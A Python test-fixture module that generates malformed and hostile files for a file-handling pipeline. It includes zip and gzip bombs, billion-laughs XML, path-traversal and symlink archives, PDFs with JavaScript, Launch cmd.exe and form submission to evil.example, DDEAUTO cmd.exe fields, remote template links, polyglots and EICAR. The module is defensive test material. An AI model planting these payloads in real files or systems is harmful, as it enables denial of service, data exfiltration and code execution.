"""Malformed and hostile files, made here: name -> bytes. Nothing in them does harm by itself."""

from __future__ import annotations

import gzip
import io
import pickle
import struct
import warnings
import zipfile
import zlib
from collections.abc import Mapping

Parts = Mapping[str, bytes]
SHEET = b'<worksheet><sheetData><row r="1"><c r="A1"><v>1</v></c></row></sheetData></worksheet>'


def packed(parts: Parts, *, level: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", level) as package:
        for name, content in parts.items():
            package.writestr(name, content)
    return out.getvalue()


def xlsx(**changed: bytes) -> bytes:
    """A sound workbook by openpyxl, with parts added or replaced (`__` stands for `/`)."""
    import openpyxl

    book, out = openpyxl.Workbook(), io.BytesIO()
    sheet = book.active
    assert sheet is not None
    for row in (["姓名", "学历", "kind"], ["王伟", "硕士", "skill"], ["李娜", "博士", "skill"]):
        sheet.append(row)
    book.save(out)
    with zipfile.ZipFile(out) as package:
        parts = {name: package.read(name) for name in package.namelist()}
    return packed(parts | {name.replace("__", "/"): text for name, text in changed.items()})


def docx(**changed: bytes) -> bytes:
    parts = {
        "[Content_Types].xml": b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/'
        b'content-types"><Default Extension="xml" ContentType="application/xml"/></Types>',
        "word/document.xml": b"<w:document><w:body/></w:document>",
    }
    return packed(parts | {name.replace("__", "/"): text for name, text in changed.items()})


def pdf(catalogue: bytes = b"", more: bytes = b"", end: bytes = b"") -> bytes:
    """One empty page."""
    return (
        b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R " + catalogue + b" >>\nendobj\n"
        b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n" + more +
        b"\nxref\n0 1\n0000000000 65535 f \ntrailer\n<< /Root 1 0 R /Size 3 >>\n"
        b"startxref\n9\n%%EOF\n" + end
    )  # fmt: skip


def chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png(width: int = 1, height: int = 1, end: bytes = b"") -> bytes:
    head = struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0)
    data = zlib.compress(b"\0" * 5)
    body = chunk(b"IHDR", head) + chunk(b"IDAT", data) + chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + body + end


def jpeg(width: int = 1, height: int = 1, end: bytes = b"") -> bytes:
    frame = struct.pack(">BHHB", 8, height, width, 1) + b"\1\x11\0"
    scan = b"\xff\xda" + struct.pack(">H", 8) + b"\1\1\0\0\x3f\0" + b"\x2a"
    sof = b"\xff\xc0" + struct.pack(">H", len(frame) + 2) + frame
    return b"\xff\xd8" + sof + scan + b"\xff\xd9" + end


def webp(width: int, height: int) -> bytes:
    body = b"VP8X" + struct.pack("<I", 10) + b"\0" * 4
    body += (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    return b"RIFF" + struct.pack("<I", len(body) + 4) + b"WEBP" + body


def overlapping() -> bytes:
    """Thousand entries of the directory that share one body (after Fifield's bomb)."""
    body = packed({"a": b"0" * 100_000})
    start = body.index(b"PK\x01\x02")
    entry = body[start : body.index(b"PK\x05\x06")]
    count = 1000
    entries = b"".join(
        entry[:-1] + bytes([33 + n % 90]) for n in range(count)
    )  # the same offset, other names
    end = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, count, count, len(entries), start, 0)
    return body[:start] + entries + end


def lying() -> bytes:
    """Says 10 bytes, unpacks to 24 MB."""
    bomb = bytearray(packed({"xl/workbook.xml": b"0" * (24 * 2**20)}))
    for mark, at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        place = bomb.index(mark) + at
        bomb[place : place + 4] = struct.pack("<I", 10)
    return bytes(bomb)


def nested() -> bytes:
    inner = packed({"0": b"0" * (20 * 2**20)})
    for depth in range(4):
        inner = packed({f"{depth}-{n}.zip": inner for n in range(4)})
    return inner


def linked() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as package:
        info = zipfile.ZipInfo("innocent.txt")
        info.create_system, info.external_attr = 3, 0o120777 << 16
        package.writestr(info, "/etc/passwd")
    return out.getvalue()


def locked() -> bytes:
    data = bytearray(packed({"a.txt": b"secret"}))
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        data[data.index(mark) + at] |= 1
    return bytes(data)


def object_stream(inner: bytes) -> bytes:
    body = zlib.compress(inner)
    head = b"5 0 obj\n<< /Type /ObjStm /Filter /FlateDecode /Length %d >>\nstream\n" % len(body)
    return head + body + b"\nendstream\nendobj\n"


LAUGHS = b'<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><l>&b;</l>'
REMOTE = (
    b'<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/'
    b'2006/relationships/%s" Target="%s" TargetMode="External"/></Relationships>'
)
OLE = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(2000)
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR" + b"-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>1</script></svg>'
HTML = b"<!doctype html><script>alert(1)</script>"
RELS = "xl__worksheets___rels__sheet1.xml.rels"


def twice() -> bytes:
    """Which of two parts of one name is read, hangs on the reader."""
    out = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(out, "w") as package:
        warnings.simplefilter("ignore")
        package.writestr("[Content_Types].xml", b"<Types/>")
        for text in (b"<w:document/>", b"<w:document>other</w:document>"):
            package.writestr("word/document.xml", text)
    return out.getvalue()


def more() -> dict[str, bytes]:
    """What starts or loads something by ways that are met less often."""
    field = b'<w:document><w:fldSimple w:instr="%s"/></w:document>'
    kind = b'<Types><Override ContentType="application/vnd.ms-word.%s.main+xml"/></Types>'
    document = "word__document.xml"
    return {
        "named script.pdf": pdf(b"/Names << /JavaScript << /Names [(a) 5 0 R] >> >>"),
        "submitting.pdf": pdf(b"/AA << /O << /S /SubmitForm /F (http://evil.example) >> >>"),
        "other file.pdf": pdf(b"/OpenAction << /S /GoToR /F (\\\\evil.example\\s) >>"),
        "rich media.pdf": pdf(more=b"5 0 obj\n<< /Subtype /RichMedia >>\nendobj"),
        "dde field.docx": docx(**{document: field % b"DDEAUTO c:\\cmd.exe &quot;/k calc&quot;"}),
        "text field.docx": docx(
            **{document: field % b"INCLUDETEXT &quot;http://evil.example/x&quot;"}
        ),
        "object.docx": docx(**{"word__embeddings__oleObject1.bin": OLE}),
        "chunk.docx": docx(
            **{"word___rels__document.xml.rels": REMOTE % (b"aFChunk", b"chunk.html")}
        ),
        "remote picture.docx": docx(
            **{"word___rels__document.xml.rels": REMOTE % (b"image", b"file://evil.example/s")}
        ),
        "outward.docx": docx(**{"..__..__evil.xml": b"<x/>"}),
        "twice.docx": twice(),
        "macro kind.docx": docx(**{"[Content_Types].xml": kind % b"document.macroEnabled"}),
    }


def corpus() -> dict[str, bytes]:
    """Every file, by a name that tells what it is."""
    return {
        **more(),
        # Nothing, or not whole.
        "empty.csv": b"",
        "empty.pdf": b"",
        "cut.xlsx": xlsx()[:2000],
        "cut.docx": docx()[:200],
        "cut.pdf": pdf()[:60],
        "cut.png": png()[:40],
        "cut.jpg": jpeg()[:20],
        "headless.pdf": b"%PDF-1.7\n%%EOF\n",
        "wrong sum.png": png()[:-14] + b"\0\0" + png()[-12:],
        "only a mark.zip": b"PK\x03\x04",
        "empty archive.zip": b"PK\x05\x06" + bytes(18),
        # Bombs.
        "bomb.zip": packed({"a": b"0" * (24 * 2**20)}),
        "bomb.xlsx": packed({"xl/workbook.xml": b"<x/>", "xl/s.xml": b"0" * (24 * 2**20)}),
        "bomb.docx": docx(word__media__a=b"0" * (24 * 2**20)),
        "lying bomb.xlsx": lying(),
        "overlapping.zip": overlapping(),
        "nested.zip": nested(),
        "gzip in zip.zip": packed({"a.gz": gzip.compress(b"0" * 10**6)}),
        "many parts.zip": packed({str(n): b"" for n in range(10_001)}, level=zipfile.ZIP_STORED),
        "gzip bomb.csv": gzip.compress(b"0" * (40 * 2**20)),
        "laughs.xlsx": xlsx(xl__sharedStrings_xml=b"<s/>", xl__styles2=b"")
        and xlsx(**{"docProps__custom.xml": LAUGHS}),
        "laughs.docx": docx(**{"word__styles.xml": LAUGHS}),
        "wide laughs.docx": docx(**{"word__styles.xml": LAUGHS.decode().encode("utf-16")}),
        "far cell.xlsx": xlsx(
            **{"xl__worksheets__sheet1.xml": SHEET.replace(b"</row>", b'<c r="XFD1048576"/></row>')}
        ),
        # Macros, links, objects.
        "macro.xlsm": xlsx(**{"xl__vbaProject.bin": OLE}),
        "macro.docm": docx(**{"word__vbaProject.bin": OLE}),
        "macro sheet.xlsx": xlsx(**{"xl__macrosheets__sheet1.xml": b"<x/>"}),
        "activex.docx": docx(**{"word__activeX__activeX1.bin": b"x"}),
        "remote book.xlsx": xlsx(**{RELS: REMOTE % (b"externalLinkPath", b"https://evil.example")}),
        "share.xlsx": xlsx(**{RELS: REMOTE % (b"oleObject", b"\\\\evil.example\\s")}),
        "template.docx": docx(
            **{"word___rels__settings.xml.rels": REMOTE % (b"attachedTemplate", b"http://evil.ex")}
        ),
        "dde.xlsx": xlsx(**{"xl__externalLinks__e1.xml": b'<x><ddeLink ddeService="cmd"/></x>'}),
        "old.doc": OLE,
        "old.xls": OLE,
        # Names and links in archives.
        "outward.zip": packed({"../../etc/passwd": b"x"}),
        "rooted.zip": packed({"/etc/passwd": b"x"}),
        "drive.zip": packed({"C:evil.txt": b"x"}),
        "backslash.zip": packed({"..\\evil.txt": b"x"}),
        "symlink.zip": linked(),
        "password.zip": locked(),
        "outward.xlsx": xlsx(**{"..__evil.xml": b"<x/>"}),
        # PDFs that act.
        "script.pdf": pdf(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
        "hidden script.pdf": pdf(b"/OpenAction << /S /J#61vaScript /J#53 (1) >>"),
        "script in stream.pdf": pdf(more=object_stream(b"6 0 << /S /JavaScript /JS (1) >>")),
        "launch.pdf": pdf(b"/OpenAction << /S /Launch /F (cmd.exe) >>"),
        "attached.pdf": pdf(b"/Names << /EmbeddedFiles << /Names [] >> >>"),
        "form.pdf": pdf(b"/AcroForm << /XFA [] >>"),
        "password.pdf": pdf(more=b"trailer << /Encrypt 9 0 R >>"),
        "stream bomb.pdf": pdf(more=object_stream(b"0" * (40 * 2**20))),
        # Disguises.
        "polyglot.pdf": pdf(end=packed({"a": b"x"})),
        "polyglot.png": png(end=packed({"a": b"x"})),
        "polyglot.jpg": jpeg(end=b"<script>alert(1)</script>"),
        "svg.png": SVG,
        "page.jpg": HTML,
        "page.csv": HTML,
        "page.pdf": HTML,
        "program.pdf": b"\x7fELF" + bytes(200),
        "program.csv": b"MZ" + bytes(range(256)),
        "pickle.xlsx": pickle.dumps({"a": [1, 2, 3]}, protocol=4),
        "eicar.csv": EICAR,
        "noise.bin": bytes(range(256)) * 20,
        # Pictures too large to show.
        "huge.png": png(100_000, 100_000),
        "huge.jpg": jpeg(65_000, 65_000),
        "huge.webp": webp(16_000_000, 16_000_000),
        "flat.png": png(0, 0),
    }


SOUND = {"sound.pdf": pdf(), "sound.png": png(), "sound.jpg": jpeg(), "sound.webp": webp(64, 64)}
